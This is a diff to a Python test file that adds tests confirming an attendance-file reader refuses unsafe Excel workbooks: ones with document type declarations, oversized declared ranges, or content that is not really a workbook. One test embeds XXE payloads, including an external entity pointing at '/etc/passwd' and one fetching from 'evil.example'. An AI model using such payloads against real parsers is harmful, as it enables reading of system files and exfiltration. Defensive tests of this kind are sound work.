@@ -1,10 +1,16 @@
 """Reading a provider's attendance file: header variants, UK dates, attended / did not attend, a
-file that reads only when every cell does, and matching a row to one condition (never a guess)."""
+file that reads only when every cell does, and matching a row to one condition (never a guess);
+workbooks checked by content and refused clearly when they carry a DTD, declare a huge sheet or are
+not workbooks at all."""
 from __future__ import annotations
 
 from datetime import date, datetime
 
+import io
+import zipfile
+
 import pytest
+from compliance_testing import WORKBOOK_HEADERS, declaring, with_doctype, workbook
 
 from webapp.domain import attendance_files as files
 
@@ -152,3 +158,59 @@ def test_course_that_matches_nothing_is_unmatched():
 def test_withdrawn_and_payment_conditions_are_never_candidates():
     match = files.match_row(_row(), [_cand(1, status="withdrawn"), _cand(2, type_="financial_penalty")])
     assert match.status == "unmatched"
+
+
+# ----- reading the file ------------------------------------------------------------------------------
+
+def problems(data: bytes, name: str = "attendance.xlsx") -> str:
+    with pytest.raises(files.AttendanceFileError) as refused:
+        files.read_table(name, data)
+    return str(refused.value)
+
+
+def test_a_plain_workbook_is_read():
+    headers, rows, first = files.read_table("attendance.xlsx", workbook())
+    assert headers == WORKBOOK_HEADERS and rows[0][0] == "OC26-000001" and first == 2
+
+
+@pytest.mark.parametrize("doctype", [
+    "<!DOCTYPE worksheet>",
+    '<!DOCTYPE worksheet [<!ENTITY name "Someone">]>',
+    '<!DOCTYPE worksheet SYSTEM "file:///etc/passwd">',
+    '<!-- a comment first --><!doctype worksheet [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
+])
+def test_a_workbook_with_a_document_type_declaration_is_refused_clearly(doctype):
+    assert "document type declaration" in problems(workbook(sheet_xml=with_doctype(doctype)))
+
+
+def test_a_workbook_declaring_every_column_is_refused_before_reading_rows():
+    huge = workbook(sheet_xml=declaring("A1:XFD20000"))
+    assert len(huge) < 10_000
+    assert "wider than 50 columns" in problems(huge)
+
+
+def test_a_workbook_declaring_too_many_rows_is_refused():
+    assert "more than 20,000 rows" in problems(workbook(sheet_xml=declaring("A1:E30000")))
+
+
+def test_cells_beyond_the_columns_read_are_not_padded_or_read():
+    far = workbook(sheet_xml=lambda xml: declaring("A1:E3")(xml).replace(
+        "</sheetData>", '<row r="3"><c r="XFD3" t="inlineStr"><is><t>far away</t></is></c></row></sheetData>'))
+    _, rows, _ = files.read_table("attendance.xlsx", far)
+    assert all(len(row) <= files.MAX_COLUMNS for row in rows) and "far away" not in str(rows)
+
+
+@pytest.mark.parametrize("name, data, message", [
+    ("attendance.xlsx", b"Case Ref,Client name\nOC26-000001,Jane Doe\n", "not an Excel workbook"),
+    ("attendance.xlsx", b"PK\x03\x04 not really a zip", "not an Excel workbook"),
+    ("attendance.csv", b"PK\x05\x06" + b"\x00" * 18, "not an Excel workbook"),  # an empty zip, named .csv
+])
+def test_the_type_is_checked_by_content_not_by_name(name, data, message):
+    assert message in problems(data, name)
+
+
+def test_a_zip_that_is_not_a_workbook_is_refused():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("word/document.xml", "<w:document/>")
+    assert "not an Excel workbook" in problems(out.getvalue())
